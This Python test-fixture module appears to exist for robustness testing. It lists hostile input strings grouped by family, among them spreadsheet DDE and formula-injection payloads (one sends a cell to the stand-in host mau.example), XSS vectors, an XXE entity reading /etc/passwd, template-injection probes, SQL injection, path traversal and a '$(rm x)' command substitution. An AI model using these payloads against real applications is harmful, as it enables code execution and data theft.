"""Hostile texts, by families: what a program along the way could run, swallow, turn round or choke on."""

import unicodedata

FORMULAS = (
    [f"{sign}{rest}" for sign in "=+-@＝＋－＠" for rest in ("1+1", "SUM(A1:A9)", "")]
    + [f"{white}=1+1" for white in ("\t", "\r", "\n", " ", "\u00a0", "\ufeff", "\u200b", "\t\r\n")]
    + [f"{kept}=1+1" for kept in ("'", "''", "' ", '"')]
    + [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!A1",
        '=DDE("cmd";"/C calc";"!A0")',
        '=HYPERLINK("http://mau.example/?x="&A1;"Bấm vào đây")',
        '=IMPORTXML(CONCAT("http://mau.example/";A2);"//a")',
        "=1+1;=2+2,=3+3\t=4+4|=5+5",
        '"=1+1"',
        '";=1+1;"',
        "{=SUM(A1:A9)}",
        "=" * 40,
        "'",
        "''",
        '"',
        ";",
        "sep=,",
        "http://mau.example/",
        "mailto:mau@mau.example",
        "internal:Sheet1!A1",
        "external:c:\\mau.xlsx",
    ]
)
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '"><b onmouseover="alert(1)">',
    "' onfocus='alert(1)' autofocus='",
    "</title></head><body>",
    "</style><style>*{display:none}</style>",
    "<style>@import 'http://mau.example/x.css'</style>",
    "</td></tr></table>",
    "<!-- chú thích -->",
    "-->",
    "<!--",
    "<![CDATA[x]]>",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&amp; &lt;b&gt; &#60; &#x3c; &nbsp; &quot;",
    "&lt;script&gt;",
    "&",
    "<",
    "a<b>c",
    "<b>đậm</b> <i>nghiêng</i> <br> <a href='javascript:alert(1)'>x</a>",
    "<base href='http://mau.example/'>",
    "<meta http-equiv=refresh content='0;url=http://mau.example/'>",
    "<form action=http://mau.example/><input type=submit>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
]
TYPST = [
    "#let x = 1",
    "#panic()",
    '#read("/etc/passwd")',
    '#import "official.typ": *',
    "#{1 + 1}",
    '#eval("1")',
    "*đậm* _nghiêng_ `mã`",
    "```raw```",
    "$x^2$",
    "$",
    "@nguon",
    "<nhan>",
    "\\",
    "\\u{41} \\# \\\\",
    "// chú thích",
    "/* chú thích */",
    "/*",
    "*/",
    "= Đề mục",
    "- mục",
    "+ mục",
    "/ từ: nghĩa",
    "[a](b)",
    "~",
    "-- --- ...",
    "'c' \"d\"",
]
OFFICE = [
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "</w:t></w:r></w:p>",
    '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
    '{ INCLUDETEXT "c:\\\\mau.txt" }',
    "_x0000_",
    "_x0041_",
    "_x000D_",
    "_x005F_",
    "_x005F_x0041_",
    "_xD800_",
    "_xFFFE_",
    "_x00e9_",
    "x_x0041_x0042_y",
    "&L&P&D&Z&F",
    "[Red]0;0%",
    "Sheet1!$A$1",
    "[]:*?/\\",
    "History",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% raw %}",
    "{%p if x %}",
    "{# x #}",
    "{unit}",
    "{short}",
    "{0}",
    "{",
    "}",
    "{unit.__class__}",
    "{{}}",
    "%s %d %(x)s",
    "${x}",
    "%{customdata[0]}",
    "<%= 1 %>",
]
MARKDOWN = [
    "**đậm** *nghiêng* __đậm__ ~~gạch~~",
    ":red[đỏ]",
    ":material/warning:",
    ":small[:gray[nhỏ]]",
    ":smile:",
    "$\\frac{1}{0}$",
    "$$x$$",
    "[bấm](javascript:alert(1))",
    "[bấm](http://mau.example)",
    "![ảnh](http://mau.example/x.png)",
    "<http://mau.example>",
    "[a]: http://mau.example",
    "# Đề mục",
    "> trích",
    "1. một",
    "* mục",
    "---",
    "| a | b |",
    "`mã`",
    "https://mau.example/x",
    "www.mau.example",
    "x^2^ H~2~O",
]
TURNING = [
    f"abc{mark}txt.exe" for mark in "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
]
UNSEEN = [
    f"a{mark}b" for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u061c\u180e\u2028\u2029\ufffc\u3164"
]
CONTROLS = [f"a{chr(code)}b" for code in [*range(0x20), *range(0x7F, 0xA0)]]
BROKEN = [
    "a\ud800b",
    "\udfff",
    "\ud83d",
    "a\ufffeb",
    "a\uffffb",
    "a\ufdd0b",
    "a\U0001fffeb",
    "a\U0010ffffb",
    "\x00",
    "\x00=1+1",
    "a\r\nb\rc\nd",
]
LETTERS = [
    "Z" + "\u0300\u0301\u0302\u0303\u0304" * 20,
    unicodedata.normalize("NFD", "Ủy ban nhân dân xã Gia Lạc, huyện Gia Viễn"),
    "Ủy ban nhân dân xã Gia Lạc: 1.234,5 – “ổn” ▼",
    "😀 👨‍👩‍👧‍👦 🇻🇳 👍🏽 ❤️",
    "漢字 かな 한국어",
    "السلام عليكم",
    "שלום",
    "ภาษาไทย",
    "नमस्ते",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠜎",
    "ﬁ ½ ² ™ Ⅳ",
    "İıſß",
    "\ue000 \U000f0000",
]
NUMBERS = [
    "NaN", "nan", "None", "null", "inf", "-inf", "1e5", "1E400", "0123", "007", "1/2", "3-4", "01/02/2021",
    "2021-02-01", "12:30", "TRUE", "FALSE", "0x1F", "1.234,5", "1,234.5", "-5", "-12,5", "+84900000001",
    "9" * 40, "1234567890123456789", "#N/A", "#REF!", "#DIV/0!", "10%", "1_000", "−5", "٣",
]  # fmt: skip
SPACES = ["", " ", "   ", "\t", "\n", "\n\n\n", "\u00a0", "\u3000", " trước", "sau ", "giữa   hai", " \t\n "]
PATHS = [
    "../../etc/passwd",
    "C:\\Windows\\System32",
    "\\\\mau\\c$",
    "CON",
    "a/b",
    "'; DROP TABLE unit; --",
    "$(rm x)",
]
LONG = [(part * 10_000)[:10_000] for part in ("Ủy ban nhân dân xã ", "W", "=1+", "ế😀", "<b>")]
FAMILIES = {
    "formulas": FORMULAS, "markup": MARKUP, "typst": TYPST, "office": OFFICE, "templates": TEMPLATES,
    "markdown": MARKDOWN, "turning": TURNING, "unseen": UNSEEN, "controls": CONTROLS, "broken": BROKEN,
    "letters": LETTERS, "numbers": NUMBERS, "spaces": SPACES, "paths": PATHS, "long": LONG,
}  # fmt: skip
HOSTILE = [text for family in FAMILIES.values() for text in family]
SHORT = [text for text in HOSTILE if len(text) < 1_000]


def storable(text: str) -> bool:
    """Whether a database can hold it: half of a pair is no text of Unicode, and NUL ends one in C."""
    return not any("\ud800" <= letter <= "\udfff" or letter == "\0" for letter in text)
